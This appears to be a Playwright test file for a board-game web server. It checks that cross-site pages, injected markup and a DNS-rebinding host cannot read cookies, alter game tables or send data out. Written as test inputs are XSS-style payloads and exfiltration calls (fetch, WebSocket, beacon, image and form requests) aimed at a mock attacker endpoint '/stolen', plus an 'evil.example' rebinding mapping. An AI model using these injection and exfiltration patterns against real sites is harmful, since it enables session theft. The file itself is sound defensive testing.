"""A page of somebody else, open in the browser of somebody who plays: it tries everything and gets nothing."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

NEW = {"game": "loewenherz", "seats": [{"kind": "person", "name": "Ada"}, {"kind": "open"}]}
POST = """(body) => fetch('/api/tables', {method: 'POST', body: JSON.stringify(body),
    headers: {'content-type': 'application/json'}}).then((told) => told.json())"""
MINE = "() => fetch('/api/tables').then((told) => told.json())"

ATTACKS = Path(__file__).with_name("attacks.js")


class Elsewhere:
    """The attacker's own server: an empty page, and what it was asked for."""

    def __init__(self) -> None:
        asked: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("access-control-allow-origin", "*")
                self.end_headers()
                self.wfile.write(b"<!doctype html><title>Free games</title><body></body>")

            do_POST = do_GET  # noqa: N815  # the name is the standard library's

            def log_message(self, *_: Any) -> None:
                """Nothing to tell."""

        self.asked = asked
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(20)


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    running = Elsewhere()
    yield running
    running.close()


@pytest.fixture
def home(server: str) -> str:
    return server.replace("localhost", "127.0.0.1")


@pytest.fixture
def victim(browser: Browser, home: str) -> Iterator[Page]:
    context = browser.new_context()
    page = context.new_page()
    page.goto(home)
    yield page
    context.close()


def names(context: BrowserContext) -> list[tuple[str, str]]:
    return [(one["name"], one["value"]) for one in context.cookies() if one["name"] == "kronrat"]


# another port of the same host is of the same site: there the browser sends the cookie along
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"], ids=["same-site", "cross-site"])
def test_a_page_of_somebody_else_gets_nothing(
    victim: Page, home: str, elsewhere: Elsewhere, host: str
) -> None:
    table = victim.evaluate(POST, NEW)["id"]
    before, cookies = victim.evaluate(MINE), names(victim.context)
    assert [one["id"] for one in before] == [table]
    assert len(cookies) == 1
    attacker = victim.context.new_page()
    attacker.goto(f"http://{host}:{elsewhere.port}/")
    attacker.add_script_tag(content=ATTACKS.read_text())
    tried = attacker.evaluate("Object.keys(attacks)")
    assert len(tried) > 10
    for attack in tried:
        told = attacker.evaluate(
            "async ([name, home, id]) => { try { return await attacks[name](home, id) } catch { return '' } }",
            [attack, home, table],
        )
        assert told == "", attack
        assert names(victim.context) == cookies, attack
        assert victim.evaluate(MINE) == before, attack
    framed = [frame.url for frame in attacker.frames if frame.parent_frame]
    assert not [url for url in framed if url.startswith(home)], framed


def test_a_window_opened_by_somebody_else_is_out_of_reach(
    victim: Page, home: str, elsewhere: Elsewhere
) -> None:
    table = victim.evaluate(POST, NEW)["id"]
    attacker = victim.context.new_page()
    attacker.goto(f"http://127.0.0.1:{elsewhere.port}/")
    with victim.context.expect_page() as opened:
        attacker.evaluate("(url) => { window.held = window.open(url) }", f"{home}/table/{table}")
    opened.value.locator(".table").wait_for()
    assert attacker.evaluate("() => held.closed")  # to the opener it looks gone
    assert opened.value.evaluate("() => window.opener === null")


def test_what_gets_into_the_page_neither_runs_nor_tells(
    victim: Page, home: str, elsewhere: Elsewhere
) -> None:
    """Were there a way to put markup into the page: no script of it runs, and nothing leaves."""
    elsewhere.asked.clear()
    away = f"http://127.0.0.1:{elsewhere.port}/stolen"
    told = victim.evaluate(
        """async (away) => {
        const script = document.createElement('script');
        script.textContent = 'window.taken = 1';
        document.body.append(script);
        const foreign = document.createElement('script');
        foreign.src = away;
        document.body.append(foreign);
        document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.taken = 2">');
        document.body.insertAdjacentHTML('beforeend', `<img src="${away}"><link rel=stylesheet href="${away}">`);
        document.body.insertAdjacentHTML('beforeend', `<form method=post action="${away}"></form>`);
        document.body.lastElementChild.submit();
        const tried = [() => fetch(away), () => new WebSocket(away.replace('http', 'ws')),
            () => navigator.sendBeacon(away), () => import(away),
            // later: what the debugger runs itself may do this
            () => new Promise((done, failed) => setTimeout(() => {
                try { done(eval('window.taken = 3')) } catch { failed() } }))];
        const worked = [];
        for (const one of tried) try { await one(); worked.push(String(one)) } catch {}
        return [window.taken, worked.filter((one) => !/WebSocket|Beacon/.test(one))];
    }""",
        away,
    )
    assert told == [None, []]
    victim.evaluate(MINE)  # a round trip later, still nothing came
    assert elsewhere.asked == []
    assert victim.url.startswith(home)


def test_a_name_pointed_at_this_machine_is_refused(launch: Callable[..., Browser], home: str) -> None:
    """Rebinding: to the browser the page and the server are of one origin, so only the name tells them apart."""
    port = home.rpartition(":")[2]
    other = launch("--host-resolver-rules=MAP evil.example 127.0.0.1")
    try:
        page = other.new_page()
        answer = page.goto(f"http://evil.example:{port}/api/games")
        assert answer is not None
        assert (answer.status, answer.json()["code"]) == (421, "wrong-host")
        assert (
            page.evaluate(
                """() => new Promise((done) => { const one = new WebSocket(`ws://${location.host}/ws/tables/x`);
            one.onopen = () => done('open'); one.onclose = () => done('closed'); })"""
            )
            == "closed"
        )
    finally:
        other.close()
